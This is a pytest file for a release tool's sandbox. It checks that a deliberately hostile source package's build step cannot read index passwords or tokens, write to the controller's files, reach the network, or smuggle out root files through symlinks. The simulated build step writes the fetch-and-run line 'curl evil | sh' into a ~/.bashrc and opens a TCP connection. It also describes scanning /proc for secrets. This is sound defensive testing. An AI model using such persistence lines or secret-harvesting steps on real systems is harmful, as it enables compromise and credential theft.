"""No code from an index runs in a process tree that holds a credential (#31 finding 2).

A hostile sdist (``evil-0.1``, ``Dynamic: Requires-Dist``, an in-tree build backend that looks for
secrets everywhere a same-uid process can: its environment, every ``/proc/<pid>/environ`` and
``cmdline`` it can read, a root-only file) is served by a public index beside a private index
with HTTP Basic auth. Then ``resolving.resolve`` (uv must learn evil's dependencies by building it),
``builds.build`` (evil has only an sdist, so the controller builds its wheel) and the wheelhouse
(which builds nothing) run with the index password in their arguments and in this process's
environment, as the deploy and ``servefleet lock`` do. The backend runs (its report is there)
and finds no secret. Before the fix, uv lock ran it with ``UV_INDEX_PRIVATE_PASSWORD`` in its
environment: the first assertion on its report failed.
"""

from __future__ import annotations

import json
import os
import pwd
import socket
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from as_nobody import as_nobody
from fake_host import serving
from hostile_sdist import hostile_sdist, report_dir, reports

from servefleet.base import sandbox
from servefleet.fleet.lab.index import Config, make_server
from servefleet.fleet.lab.simulator import wheels as lab_wheels
from servefleet.release import builds, pylock, resolve as resolving, stack as stacks, wheelhouse

SECRET = "index-secret-7f3a"
HF = "hf_secret_token_91c2"
# only a root controller builds (#46 item 6); the unit tests run as root
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="only a root controller builds sdists")


@pytest.fixture()
def indexes(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[dict[str, Any]]:
    """A public index (evil's sdist, tinydep's wheel) and a private one with Basic auth
    (rblnthing's wheel); the secrets in this process's environment; a fresh controller cache."""
    report = report_dir()
    root_only = tmp_path / "root-only-secret"
    root_only.write_text(SECRET)
    root_only.chmod(0o600)
    public, private = tmp_path / "public", tmp_path / "private"
    public.mkdir()
    private.mkdir()
    hostile_sdist(public, report, [SECRET, HF], [root_only], requires=["tinydep"])
    lab_wheels.write_wheel(public, "tinydep", "1.0", {"tinydep/__init__.py": ""})
    lab_wheels.write_wheel(private, "rblnthing", "2.0", {"rblnthing/__init__.py": ""})
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    for k, v in {
        "RBLN_INDEX_PASSWORD": SECRET,
        "HF_TOKEN": HF,
        "SERVEFLEET_API_KEY": SECRET,
    }.items():
        monkeypatch.setenv(k, v)
    with (
        serving(make_server(Config("simple", public), "127.0.0.1", 0)) as pub,
        serving(
            make_server(Config("simple", private, basic=("u", SECRET)), "127.0.0.1", 0)
        ) as priv,
    ):
        st = stacks.stack(
            "evil",
            ["evil", "rblnthing"],
            [],
            [{"name": "private", "url": priv + "/simple", "packages": ["rblnthing"], "auth": True}],
            pub + "/simple",
            ">=3.10",
            ["127.0.0.1"],
        )
        yield {"stack": st, "report": report, "tmp": tmp_path}
    subprocess.run(["rm", "-rf", str(report)], check=False)


def assert_found_nothing(found: list[dict[str, Any]]) -> None:
    assert found, "the backend never ran: nothing was measured"
    for r in found:
        assert r["found"] == [], r
        assert r["uid"] == sandbox.build_ids()[0]
        # its own namespace: uv, the interpreter and itself; never the controller or pytest
        assert {p.split("/")[2] for p in r["procs"]} <= {str(n) for n in range(1, 40)}


@needs_root
def test_lock_builds_an_sdist_for_its_metadata_where_no_credential_is(
    indexes: dict[str, Any],
) -> None:
    st = indexes["stack"]
    text = resolving.resolve(st, "u", SECRET)
    found = reports(indexes["report"])
    assert_found_nothing(found)
    assert {r["hook"] for r in found} >= {"build_wheel"}
    locked = {p["name"]: p for p in pylock.packages(text)}
    # evil's dynamic dependency came back from its sandboxed build: uv locked it
    assert set(locked) == {"evil", "tinydep", "rblnthing"}
    assert "sdist" in locked["evil"] and locked["rblnthing"]["index"].endswith("/simple")
    # the metadata is kept by the sdist's sha256: a second lock builds nothing
    for p in indexes["report"].glob("*.json"):
        p.unlink()
    assert resolving.resolve(st, "u", SECRET) == text
    assert reports(indexes["report"]) == []


@needs_root
def test_the_uv_that_holds_credentials_cannot_start_a_build(indexes: dict[str, Any]) -> None:
    st = indexes["stack"]
    env = {**stacks.credentials_env(st, "u", SECRET), "UV_CACHE_DIR": str(resolving.lock_cache())}
    env["PATH"] = os.environ["PATH"]
    with tempfile.TemporaryDirectory() as tmp:
        Path(tmp, "pyproject.toml").write_text(stacks.project_toml(st))
        proc = subprocess.run([resolving._uv(), "lock", "--directory", tmp], env=env,
                              capture_output=True, text=True)  # fmt: skip
    assert proc.returncode != 0
    assert "`evil==0.1`" in proc.stderr and resolving.NO_BUILD in proc.stderr
    assert reports(indexes["report"]) == []  # no backend ran


@needs_root
def test_the_controller_build_of_an_sdist_runs_where_no_credential_is(
    indexes: dict[str, Any],
) -> None:
    st = indexes["stack"]
    (evil,) = [
        p for p in pylock.packages(resolving.resolve(st, "u", SECRET)) if p["name"] == "evil"
    ]
    for p in indexes["report"].glob("*.json"):
        p.unlink()
    python = "{}.{}".format(*os.sys.version_info[:2])  # type: ignore[attr-defined]
    built = builds.build(evil, python, st, indexes["tmp"] / "wheels", "u", SECRET)
    assert built.fresh and built.path.name == "evil-0.1-py3-none-any.whl"
    assert_found_nothing(reports(indexes["report"]))


@needs_root
def test_the_wheelhouse_runs_no_index_code(indexes: dict[str, Any]) -> None:
    st = indexes["stack"]
    text = resolving.resolve(st, "u", SECRET)
    for p in indexes["report"].glob("*.json"):
        p.unlink()
    files = wheelhouse.package_files(text)
    auth = tuple(i["url"] for i in st.inputs["indexes"] if i["auth"])
    creds = wheelhouse.Credentials(index_user="u", index_password=SECRET, index_origins=auth)
    done = wheelhouse.fill(indexes["tmp"] / "wh", files, creds, echo=lambda _: None)
    assert (indexes["tmp"] / "wh" / "packages" / "evil-0.1.tar.gz").is_file(), done
    assert reports(indexes["report"]) == []


@needs_root
def test_a_sandboxed_process_sees_only_its_own_namespace_and_no_secret() -> None:
    script = (
        "import os, glob; "
        "print(sorted(int(p.split('/')[2]) for p in glob.glob('/proc/[0-9]*'))); "
        "print(os.getuid()); print(sorted(k for k in os.environ if 'SECRET' in os.environ[k]))"
    )
    os.environ["SERVEFLEET_TEST_SECRET"] = "SECRET"
    try:
        with sandbox.workspace() as space:
            out = space.run(["/usr/bin/python3", "-c", script]).stdout.splitlines()
    finally:
        del os.environ["SERVEFLEET_TEST_SECRET"]
    pids, uid, leaked = out
    assert max(json.loads(pids)) < 10 and os.getpid() not in json.loads(pids)
    assert leaked == "[]"
    assert int(uid) == sandbox.build_ids()[0]


# A build step as the hostile sdist of #46 item 6 ran it: it appends to its user's ~/.bashrc
# (BASHRC) and opens a TCP connection (PORT), then writes in its workspace
STEP = (
    "import socket; open(BASHRC, 'a').write('curl evil | sh\\n'); "
    "socket.create_connection(('127.0.0.1', PORT), timeout=5).close(); "
    "open('made-here', 'w').write('x')"
)
# run as nobody, the controller's user: the step in the sandbox, what happened in result.json
AS_CONTROLLER = """
import json
from servefleet.base import sandbox
out = {}
try:
    with sandbox.workspace() as space:
        proc = space.run(["/usr/bin/python3", "-c", STEP], timeout=60)
        out["ran"] = [proc.returncode, proc.stderr[-300:], (space.path / "made-here").exists()]
except sandbox.SandboxError as e:
    out["refused"] = str(e)
try:
    sandbox.build_ids("evil-0.1.tar.gz")  # as sdists.build_wheel asks: the refusal names it
except Exception as e:
    out["named"] = str(e)
open("result.json", "w").write(json.dumps(out))
"""


@pytest.fixture()
def home() -> Iterator[Path]:
    """A home of nobody's (the controller's user in the next test) with its ``.bashrc``."""
    nobody = pwd.getpwnam("nobody")
    path = Path(tempfile.mkdtemp(prefix="servefleet-home-", dir="/tmp"))
    (path / ".bashrc").write_text("# nobody's\n")
    for made in (path, path / ".bashrc"):
        os.chown(made, nobody.pw_uid, nobody.pw_gid)
    yield path
    subprocess.run(["rm", "-rf", str(path)], check=False)


@needs_root
def test_a_controller_that_is_not_root_runs_no_index_code(home: Path) -> None:
    """#46 item 6: a controller that is not root ran the build as itself in a user namespace,
    which hides no file: the step appended to that user's ``~/.bashrc`` and reached the
    network. Only root can make the build another user's, so the build is refused in one line
    that says how to run one, and the step never runs. Before the fix it ran: ``refused`` was
    missing and ``.bashrc`` held the line."""
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        listener.settimeout(0.5)
        step = STEP.replace("BASHRC", repr(str(home / ".bashrc")))
        step = step.replace("PORT", str(listener.getsockname()[1]))
        code = f"STEP = {step!r}\n{AS_CONTROLLER}"
        assert as_nobody(home, code) == 0
        result = json.loads((home / "result.json").read_text())
        assert (home / ".bashrc").read_text() == "# nobody's\n", result
        with pytest.raises(TimeoutError):
            listener.accept()  # nothing connected
    not_root = sandbox.NOT_ROOT
    assert result == {"refused": not_root, "named": f"evil-0.1.tar.gz: {not_root}"}
    assert "run this command as root" in not_root and "\n" not in not_root


@needs_root
def test_as_root_the_build_writes_only_its_workspace(home: Path) -> None:
    """The root controller's build runs as nobody: the controller's files are not its own (here a
    0644 file of root's), its workspace is."""
    root_file = home / "root-file"
    root_file.write_text("root's\n")
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        step = STEP.replace("BASHRC", repr(str(root_file)))
        step = step.replace("PORT", str(listener.getsockname()[1]))
        with sandbox.workspace() as space:
            proc = space.run(["/usr/bin/python3", "-c", step], timeout=60)
            assert "PermissionError" in proc.stderr and proc.returncode != 0
            assert root_file.read_text() == "root's\n"
            proc = space.run(["/usr/bin/python3", "-c", "open('made-here', 'w').write('x')"])
            assert proc.returncode == 0 and (space.path / "made-here").is_file()


def test_an_index_that_cannot_be_reached_is_unreachable_not_bad_data(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """#32 item 4: cron must tell a network problem (exit 3, worth a retry) from bad data."""
    from servefleet.base.errors import Unreachable

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    st = stacks.stack(
        "x", ["tinydep"], [], [], "http://127.0.0.1:9/simple", ">=3.10", ["127.0.0.1"]
    )
    with pytest.raises(Unreachable, match=r"stack x: uv lock could not reach an index \("):
        resolving.resolve(st)


def test_root_takes_the_wheel_without_following_a_link_the_build_planted(tmp_path: Path) -> None:
    """The build user owns the directory the wheel is left in: a link planted as that directory
    or as the wheel makes root copy nothing else (a root-only file would reach the hosts)."""
    from servefleet.release.sdists import SdistError, take_wheel

    secret = tmp_path / "root-only.whl"
    secret.write_text(SECRET)
    out = tmp_path / "out"
    out.mkdir()
    linked_dir = tmp_path / "dist-link"
    linked_dir.symlink_to(tmp_path)  # the directory itself is a link to root's files
    with pytest.raises(SdistError, match="made no single wheel"):
        take_wheel(linked_dir, out, None, "evil-0.1.tar.gz")
    dist = tmp_path / "dist"
    dist.mkdir()
    (dist / "evil-0.1-py3-none-any.whl").symlink_to(secret)  # the wheel is a link
    with pytest.raises(SdistError, match="not a plain file"):
        take_wheel(dist, out, None, "evil-0.1.tar.gz")
    assert list(out.iterdir()) == []
    (dist / "evil-0.1-py3-none-any.whl").unlink()
    (dist / "evil-0.1-py3-none-any.whl").write_bytes(b"wheel")
    wrong_owner = (os.geteuid() + 1, os.getegid())  # as root: a file not the build user's
    with pytest.raises(SdistError, match="not a plain file of the build user"):
        take_wheel(dist, out, wrong_owner, "evil-0.1.tar.gz")
    got = take_wheel(dist, out, None, "evil-0.1.tar.gz")
    assert got.read_bytes() == b"wheel"
